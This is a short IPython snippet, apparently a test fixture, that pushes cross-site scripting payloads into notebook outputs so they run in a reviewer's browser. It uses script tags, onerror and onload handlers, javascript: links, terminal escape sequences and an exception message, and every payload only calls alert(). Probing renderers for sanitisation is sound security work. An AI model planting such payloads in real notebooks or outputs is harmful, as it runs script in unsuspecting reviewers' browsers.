# Puts scripts into outputs, for the browser of the person who reviews.
from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>alert('LOOT')</script><img src=x onerror=alert(1)><iframe src='javascript:alert(1)'></iframe>"))
display(Javascript("alert('LOOT')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert('LOOT')</script></svg>"))
display(Markdown("[x](javascript:alert('LOOT')) <script>alert('LOOT')</script>"))
print("</pre><script>alert('LOOT')</script>\x1b]8;;javascript:alert(1)\x07link\x1b[2J")
raise ValueError("<script>alert('LOOT')</script>")
